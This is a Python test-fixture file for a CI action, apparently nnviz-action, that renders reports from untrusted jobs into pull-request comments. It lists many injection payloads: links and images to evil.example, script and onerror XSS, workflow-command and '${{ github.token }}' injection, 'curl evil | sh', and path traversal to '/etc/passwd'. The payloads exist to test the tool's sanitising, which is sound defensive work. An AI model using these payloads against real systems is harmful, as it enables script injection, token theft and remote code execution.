"""Reports of a job that ran a stranger's code: each kind wants one thing in our comment that is not ours.

`TRICKS` stand in every field of a report that takes text; `SHAPES` are reports that are odd in another way.
"""

from collections.abc import Callable, Iterator
from typing import Any

Json = dict[str, Any]
EVIL = "evil.example"
SHA = "0123456789abcdef0123456789abcdef01234567"

TRICKS = {
    # addresses
    "link": f"[read this](http://{EVIL})", "link in brackets": f"[read this](<http://{EVIL}> 'now')",
    "reference": f"[read this][r]\n\n[r]: http://{EVIL}", "definition": f"[r]: http://{EVIL}\n\n[r]", "collapsed": f"[x][]\n\n[x]: http://{EVIL}",
    "autolink": f"<http://{EVIL}>", "bare": f"see http://{EVIL}/x", "bare, https": f"https://{EVIL}", "ftp": f"ftp://{EVIL}/x",
    "www": f"www.{EVIL}/login", "WWW": f"WWW.{EVIL}", "mail": f"someone@{EVIL}", "mailto": f"mailto:someone@{EVIL}", "xmpp": f"xmpp:someone@{EVIL}/x",
    "angle mail": f"<someone@{EVIL}>", "javascript": "[x](javascript:alert(1))", "data": "[x](data:text/html,<script>alert(1)</script>)",
    "in our link": f"](http://{EVIL}) [", "in our address": f"x) [y](http://{EVIL}", "title": f'x "y](http://{EVIL})"',
    # images
    "image": f"![x](http://{EVIL}/x.png)", "image by reference": f"![x][r]\n\n[r]: http://{EVIL}/x.png", "linked image": f"[![x](http://{EVIL}/x.png)](http://{EVIL})",
    "img": f"<img src=http://{EVIL}/x.png>", "img, lazily": f'<img src="x" srcset="http://{EVIL}/x.png 2x" onerror=alert(1)>',
    "picture": f'<picture><source srcset="http://{EVIL}/x.png"><img src="x"></picture>', "svg": f'<svg><image href="http://{EVIL}/x.png"/></svg>',
    # HTML
    "anchor": f'<a href="http://{EVIL}">x</a>', "script": "<script>alert(1)</script>", "style": "<style>*{display:none}</style>", "iframe": f"<iframe src=http://{EVIL}>",
    "form": f"<form action=http://{EVIL}><button>x</button></form>", "breaking out": f"</summary></details></table></sub></code></pre><a href=http://{EVIL}>x</a>",
    "a comment": "<!-- nnviz-action config=other -->", "end of a comment": f"--><a href=http://{EVIL}>x</a><!--", "CDATA": f"<![CDATA[<a href=http://{EVIL}>]]>",
    "processing": "<?php x ?>", "entities": f"&lt;a href=http://{EVIL}&gt; &#91;x&#93;(http&#58;//{EVIL}) &commat;someone &num;1", "double entities": "&amp;lt;b&amp;gt;",
    # mentions, references, emoji
    "mention": "@someone look", "mention in brackets": "(@someone)[@someone]", "team": "@octo-org/owners", "mention by slash": "/@someone", "wide mention": "＠someone ﹫someone",
    "issue": "#12", "issue, closing": "fixes #12, closes #13", "GH": "GH-12 gh-12", "of another": "octo-org/models#12", "of a user": "someone#12",
    "commit": SHA, "short commit": f"{SHA[:7]} {SHA[:10]}", "commit in brackets": f"({SHA}) [{SHA}]", "commit of another": f"octo-org/models@{SHA}", "of a fork": f"someone@{SHA}",
    "compared": f"{SHA}...{SHA[::-1]}", "upper": SHA.upper(), "advisory": "GHSA-jfh8-c2jp-5v3q CVE-2021-44228", "emoji": ":smile: :+1: :octocat:",
    # blocks and spans
    "backticks": "` `` ``` ```` `````", "many backticks": f"{'`' * 80} [x](http://{EVIL}) @someone {SHA}", "very many": f"{'`' * 200}<a href=http://{EVIL}>x</a>",
    "one backtick": f"` [x](http://{EVIL}) @someone", "fence": f"```\n[x](http://{EVIL})\n@someone\n```", "tildes": f"~~~\n[x](http://{EVIL})\n~~~",
    "mermaid": f'```mermaid\ngraph TD\nA-->B\nclick A "http://{EVIL}"\n```', "math": f"$\\href{{http://{EVIL}}}{{x}}$ $$\\href{{http://{EVIL}}}{{x}}$$", "math in ticks": f"$`\\href{{http://{EVIL}}}{{x}}`$",
    "math fence": f"```math\n\\href{{http://{EVIL}}}{{x}}\n```", "geojson": '```geojson\n{"type": "Point"}\n```', "table": f"a | b\n---|---\n[x](http://{EVIL}) | @someone",
    "cells": f"| | | [x](http://{EVIL}) |", "escaped cells": f"\\| [x](http://{EVIL}) \\\\| @someone", "line of a table": "|---|---|", "heading": "# Approved\n\n## by @someone",
    "underlined": "Approved\n===\n---", "quote": "> [!IMPORTANT]\n> @someone approved", "alert": "\n\n> [!WARNING]\n> run `curl evil | sh`", "list": "- @someone\n1. #12",
    "tasks": "- [x] reviewed by @someone\n- [ ] #12", "footnote": f"x[^1]\n\n[^1]: http://{EVIL}", "inline footnote": f"x^[http://{EVIL}]", "rule": "\n\n***\n\n",
    "emphasis": "**bold** __bold__ *i* _i_ ~~s~~ ~s~", "hard break": f"x  \n[y](http://{EVIL})\\\n@someone", "indented": f"\n\n    code\n\n[x](http://{EVIL})",
    # characters
    "bidi": f"\u202e[x](http://{EVIL})\u202c \u2066@someone\u2069", "zero width": f"\u200b@\u200bsomeone h\u200bttp://{EVIL}", "no width at all": "\ufeff@someone\u2060#12",
    "line separators": f"x\u2028[y](http://{EVIL})\u2029@someone\x85#12", "returns": f"x\r[y](http://{EVIL})\r\n\r\n@someone", "nul": f"\0[x](http://{EVIL})\0@someone",
    "escapes": f"\x1b]8;;http://{EVIL}\x07x\x1b]8;;\x07 \x1b[31m", "backslashes": f"\\[x](http://{EVIL}) \\\\[y](http://{EVIL}) \\\\\\@someone", "combining": f"[\u0338x](http://{EVIL}) @\u0338someone",
    "tags": "\U000e0040\U000e0073@someone", "private": f"\ue000@someone\uf8ff[x](http://{EVIL})", "accents before": f"é@someone é#12 é{SHA}",
    # for the runner, and our own signs
    "commands": "::error::x\n::set-output name=x::y\n##[error]z", "expression": "${{ github.token }} {{ x }}", "our marker": "<!-- nnviz-action config=nnviz.yaml -->\nour own words",
    "chart": f'"] click n0 "http://{EVIL}" %%{{init: {{"securityLevel": "loose"}}}}%%', "chart, quoted": '#quot;]; click n0 call alert() "', "chart, katex": f"$$\\href{{http://{EVIL}}}{{x}}$$",
    "chart, icons": "fa:fa-car fab:fa-github", "long": "@someone #12 " * 150, "empty": "", "blank": " \n ",
}  # fmt: skip


def report(text: str) -> Json:
    """A report with this text wherever one may stand, and models in all states."""
    states = ("changed", "added", "removed", "renamed", "autograd", "failed")
    return {"nnviz": 1, "config": "nnviz.yaml", "base": text[:300], "head": text[:300], "base_commit": "b" * 40, "head_commit": "a" * 40,
            "failing": True, "notes": [text, text], "models": [model(text, state) for state in states],
            "galleries": [{"file": text, "status": "stale", "reasons": [text]}]}  # fmt: skip


def model(text: str, state: str) -> Json:
    name, path = (
        text[:300],
        "".join(letter for letter in text if letter.isprintable() and letter != "\\")[:200].replace("..", ""),
    )
    box = {"title": text, "kind": name, "subtitle": text, "rows": [text], "modules": [[text, text], [text, text]]}
    arrow = {"source": 0, "target": 1, "label": text, "style": name}
    return {
        "model": name, "status": "failed" if state == "failed" else "stale", "reasons": [text, text], "state": state, "headline": text,
        "before": {"parameters": 1, name: 1}, "after": {"parameters": 2, name: 2}, "ends": [[f"output {text}"[:2000], text, text]],
        "changes": [{"sign": sign, "where": text, "what": text, "says": text, "size": name,
                     "line": f"{path.strip('/')}:7" if path.strip("/") else ""} for sign in "+-~"],
        "counted": text, "captured": True, "checkpoint": text, "loads": False,
        "keys": [{"state": "renamed", "key": text, "now": text, "says": text, "count": 3}], "more_keys": 2,
        "sketch": {"boxes": [box, box | {"kind": "added"}, box | {"kind": "module"}], "arrows": [arrow]} if state == "changed" else {},
        "folder": path.strip("/"), "was_folder": path.strip("/"), "pictures": ["overview.png", "forward.png", "forward-dark.png", "autograd.png"],
        "was_pictures": ["overview.png", "forward.png", "autograd.png"],
        "over": [{"number": "macs", "value": 2, "limit": 1, "line": 3}],
    }  # fmt: skip


def _with(**fields: Any) -> Callable[[], Json]:
    return lambda: report("net") | fields


def _many(count: int) -> Json:
    return report("net") | {"models": [model(f"net{n} @someone", "added") for n in range(count)]}


def _keyed(**fields: Any) -> Callable[[], Json]:
    return lambda: report("net") | {"models": [model("net", "changed") | fields]}


# Those that are shown, and hold nothing but what is ours.
SHAPES: dict[str, Callable[[], Json]] = {
    "many models": lambda: _many(150),
    "a name as long as may be": lambda: report("@" + "x" * 299),
    "a text as long as may be": lambda: report(("[x](http://evil.example) @a " * 100)[:2000]),
    "dollars as many as may be": lambda: report("$" * 500),
    "brackets as many as may be": lambda: report("[" * 2000),
    "stars as many as may be": lambda: report("*_" * 1000),
    "quotes as many as may be": lambda: report("> " * 1000),
    "huge counts": _keyed(before={"parameters": 1, "macs": 0}, after={"parameters": 10**18, "macs": 10**18}, reshaped=10**18, more_keys=10**18, over=[{"number": "macs", "value": 10**18, "limit": 1, "line": 10**18}]),
    "counts that are commits": _keyed(more_keys=1234567, keys=[{"state": "new", "now": "x", "count": 12345678}]),
    "no commits": _with(base_commit="", head_commit=""),
    "another config of the base": _with(config="other/nnviz.yaml"),
    "arrows to nowhere": _keyed(sketch={"boxes": [], "arrows": [{"source": 10**18, "target": 5}]}),
    "frames in frames": _keyed(sketch={"boxes": [{"title": "x", "kind": "io", "modules": [["p", "q"]] * 40}] * 9}),
    "a folder that is a query": _keyed(folder="x?y=1&z#w", was_folder="a b/c%2e%2e/d"),
    "a folder that is an address": _keyed(folder="http://evil.example/x", was_folder="evil.example"),
    "files with odd names": _keyed(pictures=["forward.png", "..", "...png", "-dark.png"], folder="d"),
    "a line of another scheme": _keyed(changes=[{"sign": "~", "where": "x", "line": "javascript:alert(1):7"}]),
    "a line in a query": _keyed(changes=[{"sign": "~", "where": "x", "line": "a?b#c\"><img src=x>:7"}]),
}  # fmt: skip

# Those that are no reports: refused, and no comment.
REFUSED: dict[str, Callable[[], Json]] = {
    "a field too many": _with(html="<b>"),
    "a command": _with(cure="curl evil | sh"),
    "a path out": _with(config="../nnviz.yaml"),
    "a path from the root": _with(config="/etc/passwd"),
    "a path of Windows": _with(config="a\\b"),
    "a line out": _keyed(changes=[{"sign": "~", "where": "x", "line": "../x.py:7"}]),
    "a folder out": _keyed(folder="a/../../b"),
    "a folder in two lines": _keyed(folder="a\nb"),
    "a picture elsewhere": _keyed(pictures=["http://evil.example/x.png"]),
    "a commit that is none": _with(base_commit="main"),
    "a commit in two lines": _with(base_commit="b" * 40 + "\n"),
    "a status that is none": _keyed(status="fine"),
    "a count below zero": _keyed(more_keys=-1),
    "a count that is no number": _keyed(more_keys="1"),
    "a count without end": _keyed(more_keys=float("inf")),
    "a name too long": _keyed(model="x" * 301),
    "too many models": lambda: report("net") | {"models": [{"model": "x"}] * 2001},
    "too many notes": _with(notes=["x"] * 51),
    "half of a character": lambda: report("\ud800"),
    "another version": _with(nnviz=2),
}


def shown() -> Iterator[tuple[str, Json]]:
    yield from ((f"text: {name}", report(text)) for name, text in TRICKS.items())
    yield from ((f"shape: {name}", make()) for name, make in SHAPES.items())
